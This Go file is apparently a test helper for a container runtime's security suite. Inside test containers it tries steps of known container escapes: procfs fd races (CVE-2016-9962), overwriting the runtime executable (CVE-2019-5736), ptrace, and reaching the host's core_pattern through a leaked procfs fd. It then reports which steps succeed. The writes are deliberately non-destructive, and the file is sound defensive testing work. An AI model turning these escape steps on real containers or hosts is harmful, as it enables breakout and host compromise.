// Command attacker runs inside the containers of the security suite
// (tests/security) and tries, for real, the steps of known container
// escapes. It reports every step on stdout as one line "STEP ARG: RESULT",
// where RESULT is "ok ..." or "errno=NAME" (or "error: ..."), so that the
// tests can tell which step succeeded. It never writes anything harmful:
// a write that proves an escape writes back what is already there.
//
// Usage: attacker CMD [ARGS...] [-- CMD [ARGS...]]...
//
// It must be built with CGO_ENABLED=0 (the rootfs has no libc). The
// settings below keep the Go runtime from holding cgroup files open,
// which would show up in "fds".
//
//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0
package main

import (
	"errors"
	"fmt"
	"os"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

var commands = map[string]struct {
	nargs int
	fn    func([]string)
}{
	"fds":          {0, cmdFds},
	"caps":         {0, cmdCaps},
	"cwd":          {0, cmdCwd},
	"read":         {1, cmdRead},
	"write":        {2, func(a []string) { cmdWrite(a, unix.O_CREAT|unix.O_TRUNC) }},
	"writex":       {2, func(a []string) { cmdWrite(a, unix.O_TRUNC) }},
	"mkdir":        {1, cmdMkdir},
	"stat":         {1, cmdStat},
	"statfs":       {1, cmdStatfs},
	"ls":           {1, cmdLs},
	"mountinfo":    {0, cmdMountinfo},
	"sleep":        {1, cmdSleep},
	"touch":        {1, cmdTouch},
	"hog":          {1, cmdHog},
	"pidns-attack": {0, cmdPidnsAttack},
}

func main() {
	// ptrace requests must come from the thread that attached.
	runtime.LockOSThread()
	guardStdio()
	args := os.Args[1:]
	if len(args) == 0 {
		usage()
	}
	for len(args) > 0 {
		end := len(args)
		for i, a := range args {
			if a == "--" {
				end = i
				break
			}
		}
		cmd := args[:end]
		if end < len(args) {
			args = args[end+1:]
		} else {
			args = nil
		}
		if len(cmd) == 0 {
			continue
		}
		c, ok := commands[cmd[0]]
		if !ok || len(cmd)-1 != c.nargs {
			usage()
		}
		c.fn(cmd[1:])
	}
}

// guardStdio checks that stdio is not a procfs file (a runtime that opens
// the image's /dev/null for stdio may hand the container the host's
// core_pattern): such an fd is reported, and stdout and stderr then go to
// /tmp/attacker.out in the rootfs, so that nothing is written to it.
func guardStdio() {
	var found []string
	for fd := 0; fd <= 2; fd++ {
		var st unix.Statfs_t
		if unix.Fstatfs(fd, &st) != nil || st.Type != unix.PROC_SUPER_MAGIC {
			continue
		}
		target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		found = append(found, fmt.Sprintf("stdio %d: ok procfs %s", fd, target))
		if fd == 0 {
			continue
		}
		f, err := unix.Open("/tmp/attacker.out", unix.O_WRONLY|unix.O_CREAT|unix.O_APPEND|unix.O_NOFOLLOW|unix.O_CLOEXEC, 0o644)
		if err != nil {
			unix.Close(fd)
			continue
		}
		unix.Dup2(f, fd)
		unix.Close(f)
	}
	for _, l := range found {
		fmt.Println(l)
	}
}

func usage() {
	var names []string
	for n := range commands {
		names = append(names, n)
	}
	sort.Strings(names)
	fmt.Fprintf(os.Stderr, "usage: attacker CMD [ARGS] [-- CMD [ARGS]]...\ncommands: %s\n", strings.Join(names, " "))
	os.Exit(2)
}

// res formats an outcome: "ok[ detail]" or "errno=NAME".
func res(err error, detail string) string {
	if err == nil {
		if detail != "" {
			return "ok " + detail
		}
		return "ok"
	}
	var errno syscall.Errno
	if errors.As(err, &errno) {
		return "errno=" + unix.ErrnoName(errno)
	}
	return "error: " + err.Error()
}

func report(step, arg string, err error, detail string) {
	if arg != "" {
		step += " " + arg
	}
	fmt.Printf("%s: %s\n", step, res(err, detail))
}

// listFds lists the fd numbers of /proc/PID/fd with raw syscalls, leaving
// out the directory's own fd when dir is /proc/self/fd.
func listFds(dir string) ([]int, error) {
	dfd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	defer unix.Close(dfd)
	var fds []int
	buf := make([]byte, 8192)
	for {
		n, err := unix.Getdents(dfd, buf)
		if err != nil {
			return nil, err
		}
		if n == 0 {
			break
		}
		_, _, names := unix.ParseDirent(buf[:n], -1, nil)
		for _, name := range names {
			if fd, err := strconv.Atoi(name); err == nil && !(dir == "/proc/self/fd" && fd == dfd) {
				fds = append(fds, fd)
			}
		}
	}
	sort.Ints(fds)
	return fds, nil
}

func joinInts(v []int) string {
	s := make([]string, len(v))
	for i, n := range v {
		s[i] = strconv.Itoa(n)
	}
	return strings.Join(s, ",")
}

func cmdFds([]string) {
	fds, err := listFds("/proc/self/fd")
	report("fds", "", err, joinInts(fds))
	for _, fd := range fds {
		target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		fmt.Printf("fd %d: %s\n", fd, target)
	}
}

func cmdCaps([]string) {
	data, err := os.ReadFile("/proc/self/status")
	if err != nil {
		report("caps", "", err, "")
		return
	}
	for _, l := range strings.Split(string(data), "\n") {
		if strings.HasPrefix(l, "Cap") {
			k, v, _ := strings.Cut(l, ":")
			fmt.Printf("%s: %s\n", k, strings.TrimSpace(v))
		}
	}
}

func cmdCwd([]string) {
	buf := make([]byte, 4096)
	n, err := unix.Getcwd(buf)
	if err != nil {
		report("cwd", "", err, "")
		return
	}
	report("cwd", "", nil, strings.TrimRight(string(buf[:n]), "\x00"))
}

func cmdRead(a []string) {
	data, err := os.ReadFile(a[0])
	if len(data) > 200 {
		data = data[:200]
	}
	report("read", a[0], err, strconv.Quote(string(data)))
}

func cmdWrite(a []string, flags int) {
	f, err := os.OpenFile(a[0], os.O_WRONLY|flags, 0o644)
	if err == nil {
		_, err = f.WriteString(a[1])
		if cerr := f.Close(); err == nil {
			err = cerr
		}
	}
	report("write", a[0], err, "")
}

func cmdMkdir(a []string) {
	report("mkdir", a[0], unix.Mkdir(a[0], 0o755), "")
}

func cmdStat(a []string) {
	var st unix.Stat_t
	if err := unix.Lstat(a[0], &st); err != nil {
		report("stat", a[0], err, "")
		return
	}
	typ := map[uint32]string{
		unix.S_IFREG: "file", unix.S_IFDIR: "dir", unix.S_IFCHR: "char", unix.S_IFBLK: "block",
		unix.S_IFIFO: "fifo", unix.S_IFLNK: "symlink", unix.S_IFSOCK: "socket",
	}[st.Mode&unix.S_IFMT]
	d := "type=" + typ
	if typ == "char" || typ == "block" {
		d += fmt.Sprintf(" rdev=%d:%d", unix.Major(st.Rdev), unix.Minor(st.Rdev))
	}
	if typ == "symlink" {
		t, _ := os.Readlink(a[0])
		d += " link=" + t
	}
	report("stat", a[0], nil, d)
}

// cmdStatfs prints the filesystem magic of PATH ("proc" for procfs).
func cmdStatfs(a []string) {
	var st unix.Statfs_t
	err := unix.Statfs(a[0], &st)
	d := fmt.Sprintf("%#x", st.Type)
	if st.Type == unix.PROC_SUPER_MAGIC {
		d = "proc"
	}
	report("statfs", a[0], err, d)
}

func cmdLs(a []string) {
	ents, err := os.ReadDir(a[0])
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	report("ls", a[0], err, strings.Join(names, ","))
}

func cmdMountinfo([]string) {
	data, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		report("mountinfo", "", err, "")
		return
	}
	for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		fmt.Printf("mnt: %s\n", l)
	}
}

func cmdSleep(a []string) {
	d, _ := strconv.ParseFloat(a[0], 64)
	time.Sleep(time.Duration(d * float64(time.Second)))
}

func cmdTouch(a []string) {
	f, err := os.Create(a[0])
	if err == nil {
		f.Close()
	}
	report("touch", a[0], err, "")
}

// cmdHog allocates and touches N MiB, then holds it.
func cmdHog(a []string) {
	n, _ := strconv.Atoi(a[0])
	var keep [][]byte
	for i := 0; i < n; i++ {
		b := make([]byte, 1<<20)
		for j := 0; j < len(b); j += 4096 {
			b[j] = 1
		}
		keep = append(keep, b)
	}
	fmt.Printf("hog %d: ok allocated\n", len(keep))
	time.Sleep(time.Hour)
}

func exists(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

func waitFile(p string, d time.Duration) bool {
	deadline := time.Now().Add(d)
	for !exists(p) {
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(5 * time.Millisecond)
	}
	return true
}

func otherPids() []int {
	ents, _ := os.ReadDir("/proc")
	var pids []int
	for _, e := range ents {
		if pid, err := strconv.Atoi(e.Name()); err == nil && pid != os.Getpid() {
			pids = append(pids, pid)
		}
	}
	return pids
}

// cmdPidnsAttack is the attacker of a container whose PID namespace a
// second container joins (a pod with a shared PID namespace): the second
// container's init is the runtime, and this process goes for it.
//
//   - Until /tmp/go exists, it tries to list the fds of every process that
//     appears, as early as it can (the init while it sets up).
//   - At /tmp/go (the second container is created: its init is the runtime
//     waiting for start) it tries, on every other process: the fds
//     (CVE-2016-9962), ptrace, environ, mem, and writing to its executable
//     (CVE-2019-5736). It keeps an O_PATH fd of each executable and touches
//     /tmp/phase1.
//   - At /tmp/go2 (the other container is started: the runtime has exec'd
//     the container's process and its executable is no longer busy) it
//     writes through the kept fds; then, as a control, it reads the environ
//     and opens fd 0 of every other process (now the container's process,
//     with the same credentials as this one), and touches /tmp/phase2.
//
// A write to an executable writes 0x7f at offset 0, which every ELF file
// has there already: success proves the attack without damage.
func cmdPidnsAttack([]string) {
	seen := map[int]bool{}
	start := time.Now()
	for !exists("/tmp/go") && time.Since(start) < 60*time.Second {
		for _, pid := range otherPids() {
			if seen[pid] {
				continue
			}
			if fds, err := listFds(fmt.Sprintf("/proc/%d/fd", pid)); err == nil {
				seen[pid] = true
				report("race fd-list", strconv.Itoa(pid), nil, joinInts(fds))
			}
		}
	}
	held := map[int]int{}
	pids := otherPids()
	fmt.Printf("pids: ok %s\n", joinInts(pids))
	for _, pid := range pids {
		probe(pid, held)
	}
	os.WriteFile("/tmp/phase1", nil, 0o644)
	waitFile("/tmp/go2", 60*time.Second)
	for pid, fd := range held {
		f, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Pwrite(f, []byte{0x7f}, 0)
			unix.Close(f)
		}
		report("exe-reopen-write", strconv.Itoa(pid), err, "")
	}
	for _, pid := range otherPids() {
		_, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid))
		report("control-environ", strconv.Itoa(pid), err, "")
		f, err := unix.Open(fmt.Sprintf("/proc/%d/fd/0", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(f)
		}
		report("control-fd-open", strconv.Itoa(pid), err, "")
	}
	os.WriteFile("/tmp/phase2", nil, 0o644)
	time.Sleep(time.Hour)
}

func probe(pid int, held map[int]int) {
	p := strconv.Itoa(pid)
	dir := "/proc/" + p
	comm, _ := os.ReadFile(dir + "/comm")
	fmt.Printf("comm %d: ok %s\n", pid, strings.TrimSpace(string(comm)))
	link, err := os.Readlink(dir + "/exe")
	report("exe-link", p, err, link)

	fds, err := listFds(dir + "/fd")
	report("fd-list", p, err, joinInts(fds))
	if err != nil {
		fds = nil
		for fd := 0; fd < 32; fd++ {
			fds = append(fds, fd)
		}
	}
	for _, fd := range fds {
		name := fmt.Sprintf("%s/fd/%d", dir, fd)
		f, err := unix.Open(name, unix.O_PATH|unix.O_CLOEXEC, 0)
		if errors.Is(err, unix.ENOENT) {
			continue
		}
		detail := ""
		if err == nil {
			target, _ := os.Readlink(name)
			var sfs unix.Statfs_t
			unix.Fstatfs(f, &sfs)
			var st unix.Stat_t
			unix.Fstat(f, &st)
			detail = fmt.Sprintf("%s fs=%#x", target, sfs.Type)
			if st.Mode&unix.S_IFMT == unix.S_IFDIR && sfs.Type == unix.PROC_SUPER_MAGIC {
				hostProcfs(pid, fd, f)
			}
			unix.Close(f)
		}
		report("fd-open", fmt.Sprintf("%d %d", pid, fd), err, detail)
	}
	_, err = os.ReadFile(dir + "/environ")
	report("environ", p, err, "")
	f, err := unix.Open(dir+"/mem", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(f)
	}
	report("mem", p, err, "")

	// CVE-2019-5736: the executable of a runtime process in the container.
	f, err = unix.Open(dir+"/exe", unix.O_WRONLY|unix.O_CLOEXEC, 0)
	report("exe-open-wr", p, err, "")
	if err == nil {
		_, err = unix.Pwrite(f, []byte{0x7f}, 0)
		unix.Close(f)
		report("exe-write", p, err, "")
	}
	if f, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
		held[pid] = f
	}

	_, _, e := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0)
	if e != 0 {
		report("ptrace", p, e, "")
		return
	}
	report("ptrace", p, nil, "seized")
	// Stop it, then let it go: it must go on as if nothing happened.
	unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_INTERRUPT, uintptr(pid), 0, 0, 0, 0)
	var ws unix.WaitStatus
	for i := 0; i < 200; i++ {
		if wpid, _ := unix.Wait4(pid, &ws, unix.WNOHANG|unix.WALL, nil); wpid == pid {
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_DETACH, uintptr(pid), 0, 0, 0, 0)
}

// hostProcfs looks through a procfs directory fd of another process: if it
// is the host's procfs, the container can reach the host's /proc/sys. It
// opens core_pattern for writing and closes it without writing.
func hostProcfs(pid, fd, dirfd int) {
	where := fmt.Sprintf("%d %d", pid, fd)
	root, err := unix.Openat(dirfd, "../..", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		report("procfs-root", where, err, "")
		return
	}
	defer unix.Close(root)
	n := 0
	if ents, err := os.ReadDir(fmt.Sprintf("/proc/self/fd/%d", root)); err == nil {
		for _, e := range ents {
			if _, err := strconv.Atoi(e.Name()); err == nil {
				n++
			}
		}
	}
	report("procfs-root", where, nil, fmt.Sprintf("%d processes", n))
	f, err := unix.Openat(root, "sys/kernel/core_pattern", unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(f)
	}
	report("procfs-core_pattern-open-wr", where, err, "")
}
